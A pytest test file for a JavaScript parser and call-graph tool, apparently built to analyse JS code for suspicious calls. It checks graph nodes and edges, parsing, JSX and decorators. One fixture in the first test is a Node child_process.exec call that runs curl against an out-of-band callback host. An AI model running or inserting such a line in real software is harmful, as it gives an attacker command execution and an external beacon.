"""Call graphs of small programs, node by node."""

from __future__ import annotations

import pytest

from paxlens.operators.callgraph import call_graph
from paxlens.operators.jsparse import parse


def graph(code: str):
    nodes, edges = call_graph(parse(code)["program"])
    text = ("callee_name", "content", "function_name", "class_name", "parameter_name")
    return [(n["type"], n["label"], next((n[k] for k in text if n.get(k) is not None), None)) for n in nodes], [(e["src"], e["dst"], e["type"]) for e in edges], nodes


def test_chained_require_is_made_twice():
    nodes, edges, raw = graph("require('child_process').exec('curl http://x.oast.fun')")
    assert [n[2] for n in nodes] == [None, "require.exec", "require", "child_process", "curl http://x.oast.fun", "require", "child_process"]
    assert edges == [("n0", "n2", "calls"), ("n2", "n3", "has_arg"), ("n2", "n1", "chained_call"), ("n1", "n4", "has_arg"), ("n1", "n5", "nested_in"), ("n5", "n6", "has_arg")]
    assert (raw[1]["is_chained"], raw[1]["call_depth"], raw[1]["chain_position"]) == (True, 1, "chained")


def test_boolean_arguments_are_numbers():
    assert graph("f(true, {a: true}, null)")[0][2:] == [("ARGUMENT", "number", "True"), ("ARGUMENT", "object", "{a: true}"), ("ARGUMENT", "unknown", "NullLiteral")]


def test_contexts():
    nodes, edges, _ = graph("const x = a(); b(); if (c) d(); if (c) { e(); }")
    assert {nodes[int(d[1:])][2]: t for _, d, t in edges} == {"a": "nested_in", "b": "calls", "d": "nested_in", "e": "calls"}


def test_definitions_are_resolved_a_level_earlier():
    nodes, edges, _ = graph("g(1); function g(p) { return h(p); }")
    assert nodes[1][:2] == ("FUNCTION_DEF", "function_def") and ("n3", "n1", "resolves_to_def") in edges and ("n1", "n5", "calls") in edges


def test_called_function_expression_has_no_node():
    nodes, edges, _ = graph("(function () { k(); })()")
    assert [n[2] for n in nodes] == [None, "unknown", "k"] and edges == [("n0", "n1", "calls"), ("n1", "n2", "calls")]


def test_callbacks_and_classes():
    nodes, edges, raw = graph("on('x', () => m()); class A { q() { r(); } }")
    at = next(n for n in raw if n["type"] == "ANONYMOUS_FUNCTION")
    assert at["is_callback"] and (raw[4]["node_id"], at["node_id"], "callback") in edges and ("n1", "n7", "calls") in edges


def test_computed_optional_and_new():
    nodes, _, raw = graph("o['p'](); o?.p(); new W(1)")
    assert [n[2] for n in nodes if n[0] == "CALL"] == ["o.unknown", "new W"] and raw[2]["is_constructor"]


def test_values_as_written():
    nodes, _, _ = graph("f(`a${x}b`, [1, 'k', , y], {u: 1, 'v': w, m() {}}, p.q, p[i], a + 'b', i++, /z/g, t.u(1))")
    assert [n[1:] for n in nodes if n[0] == "ARGUMENT"][:9] == [
        ("template", "a${x}b"), ("array", "[1, k, null, y]"), ("object", '{u: 1, "v": w}'), ("member_access", "p.q"), ("member_access", "p[i]"),
        ("binary_expression", "a + b"), ("update_expression", "i++"), ("regex", "/z/g"), ("function_call", "t.u"),
    ]


@pytest.mark.parametrize(("depth", "there"), [(40, True), (60, False)])
def test_depth_cap(depth, there):
    assert any(n[2] == "deep" for n in graph("{" * depth + "deep()" + "}" * depth)[0]) is there


GOOD = [
    "let {a, b: [c, ...d] = [], ...r} = q; for (const [k,v] of Object.entries(o)) { async () => { await x?.[1]?.(2) } }",
    "x = a ? b : c, y **= 2; label: for(;;) { continue label }",
    "import a, {b as c} from 'm'; export default class extends B { static #p = 1; get x() { return this.#p } async *g() { yield* z } constructor(){super()} }",
    "try { throw new Error(`x ${`y${1}`}`) } catch { } finally { }",
    "switch (a) { case 1: b(); break; default: c() }",
    "a = b / c / d; e = /[/]\\//.test(f)",
    "(a, b) => ({c}), async x => x, ({a} = b)",
    "do x++; while (x < 5) y()",
    "export * from 'x'; export {a as b}; export const z = 1; import('x').then(y)",
    "a\n++b\nreturn\nx",
    "new (foo())(1); new a.b.c; new.target; a?.b.c(1)`t`",
    "import a from 'a.json' with {type: 'json'}; import 'b' assert {type: 'css'}\nexport * from 'c' with {type: 'json'}; export {d} from 'd' with {}",
    "import a from 'a'\nassert({b: 1}); with ({c}) d()",
    "0x1fn; 1_000; .5e3; 'a\\u{1F600}\\x41'",
    "#!/usr/bin/env node\n// c\n/* d */ x = function* () { yield; yield 1 }; delete a.b, void 0, typeof x",
    "(" * 24 + "a" + ")" * 24,
]


@pytest.mark.parametrize("code", GOOD)
def test_parses(code):
    assert parse(code)["program"]["type"] == "Program"


@pytest.mark.parametrize("code", ["a b", "f(", "`x", "'a\n'", "if (", "{", "1 = 2", "x = = y", "try {}"])
def test_rejects(code):
    with pytest.raises(SyntaxError):
        parse(code)


def test_values():
    e = parse("f(0x10, 1e3, 1.5, 'a\\n\\u0041', /a[/]b/gi)")["program"]["body"][0]["expression"]["arguments"]
    assert [x.get("value") for x in e[:4]] == [16, 1000, 1.5, "a\nA"] and (e[4]["pattern"], e[4]["flags"]) == ("a[/]b", "gi")


def test_calls_in_jsx_and_decorators():
    nodes, _, _ = graph("const v = <a b={f(1)} {...g(2)}>it's {h(3)}<i/>don't</a>; @d(4) class A { @m(5) q() { r(6); } }")
    assert {n[2] for n in nodes if n[0] == "CALL"} == {"f", "g", "h", "m", "r"}  # of a class only its members are walked


def test_jsx_trees():
    tree = parse("v = (<a.b c='x&amp;y' d:e><>t{/* none */}{...u}</></a.b>)")["program"]["body"][0]["expression"]["right"]
    opening = tree["openingElement"]
    assert (tree["type"], opening["name"]["type"], opening["selfClosing"], tree["closingElement"]["name"]["property"]["name"]) == ("JSXElement", "JSXMemberExpression", False, "b")
    assert [(a["name"]["type"], (a["value"] or {}).get("value")) for a in opening["attributes"]] == [("JSXIdentifier", "x&y"), ("JSXNamespacedName", None)]
    (part,) = tree["children"]
    assert part["type"] == "JSXFragment" and [c["type"] for c in part["children"]] == ["JSXText", "JSXExpressionContainer", "JSXSpreadChild"]


@pytest.mark.parametrize("code", ["r = (<p>it's ({f(1)}) don't</p>)", "r = (<A f={(e) => (<i>x'y</i>)}>{a ? (<b>it's</b>) : null}</A>)", "(a.default < b)", "f((a, b) => a < b)", "(a < b, c > (d))", "(x = <b>it's</b>) => x", "export default @d class {}", "@d export class B {}"])
def test_angles_and_marks_that_parse(code):
    assert parse(code)["program"]["body"]


@pytest.mark.parametrize("code", ["<a></b>", "<a>", "<a b=></a>", "@d function f() {}", "<"])
def test_bad_tags_and_decorators(code):
    with pytest.raises(SyntaxError):
        parse(code)


def test_html_comments_in_scripts_only():
    assert len(parse("<!-- a\nb();\n--> c\nd(1)")["program"]["body"]) == 2
    assert parse("import a from 'b'; if (x<!--y) z()")["program"]["body"][1]["test"]["operator"] == "<"
